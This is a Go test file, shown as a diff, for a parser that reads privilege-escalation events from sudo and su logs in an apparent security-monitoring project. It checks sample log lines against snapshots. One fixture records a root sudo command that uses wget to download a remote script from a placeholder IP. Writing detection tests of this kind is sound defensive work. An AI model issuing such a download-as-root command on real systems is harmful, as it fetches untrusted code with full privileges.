@@ -0,0 +1,84 @@
+package handler
+
+import (
+	"context"
+	"testing"
+
+	"github.com/EduardoOliveira/ckc/internal/time_help"
+	"github.com/EduardoOliveira/ckc/types"
+	"github.com/gkampitakis/go-snaps/snaps"
+	"github.com/stretchr/testify/assert"
+)
+
+func TestParseEscalationLog(t *testing.T) {
+	parser := NewEscalationParser()
+	testCases := []struct {
+		name    string
+		service types.ServiceName
+		log     string
+	}{
+		{
+			name:    "sudo command",
+			service: types.SudoService,
+			log:     `  vagrant : TTY=pts/0 ; PWD=/home/vagrant ; USER=root ; COMMAND=/usr/bin/wget http://203.0.113.7/x.sh`,
+		},
+		{
+			name:    "sudo command without tty",
+			service: types.SudoService,
+			log:     `deploy : PWD=/srv/app ; USER=www-data ; COMMAND=/usr/bin/systemctl restart app`,
+		},
+		{
+			name:    "sudo not in sudoers",
+			service: types.SudoService,
+			log:     `alice : user NOT in sudoers ; TTY=pts/1 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash`,
+		},
+		{
+			name:    "sudo incorrect password attempts",
+			service: types.SudoService,
+			log:     `alice : 3 incorrect password attempts ; TTY=pts/1 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash`,
+		},
+		{
+			name:    "sudo pam auth failure",
+			service: types.SudoService,
+			log:     `pam_unix(sudo:auth): authentication failure; logname=alice uid=1000 euid=0 tty=/dev/pts/1 ruser=alice rhost=  user=alice`,
+		},
+		{
+			name:    "su pam auth failure",
+			service: types.SuService,
+			log:     `pam_unix(su:auth): authentication failure; logname=vagrant uid=1000 euid=0 tty=/dev/pts/0 ruser=vagrant rhost=  user=root`,
+		},
+		{
+			name:    "su session opened",
+			service: types.SuService,
+			log:     `pam_unix(su-l:session): session opened for user root(uid=0) by vagrant(uid=1000)`,
+		},
+		{
+			name:    "su failed",
+			service: types.SuService,
+			log:     `FAILED SU (to root) vagrant on pts/0`,
+		},
+	}
+
+	for _, tc := range testCases {
+		t.Run(tc.name, func(t *testing.T) {
+			result, err := parser.Parse(context.Background(), tc.log, types.ParsedEvent{
+				ServiceName: tc.service,
+				Hostname:    "localhost",
+				Ingestion:   time_help.Now(),
+			})
+			assert.NoError(t, err)
+			snaps.MatchSnapshot(t, result)
+		})
+	}
+
+	t.Run("Ignores session lines repeated by other messages", func(t *testing.T) {
+		for _, log := range []string{
+			`pam_unix(sudo:session): session opened for user root(uid=0) by vagrant(uid=1000)`,
+			`pam_unix(su:session): session closed for user root`,
+			`(to root) vagrant on pts/0`,
+		} {
+			_, err := parser.Parse(context.Background(), log, types.ParsedEvent{ServiceName: types.SuService})
+			assert.ErrorIs(t, err, ErrIgnoredContent, log)
+		}
+	})
+}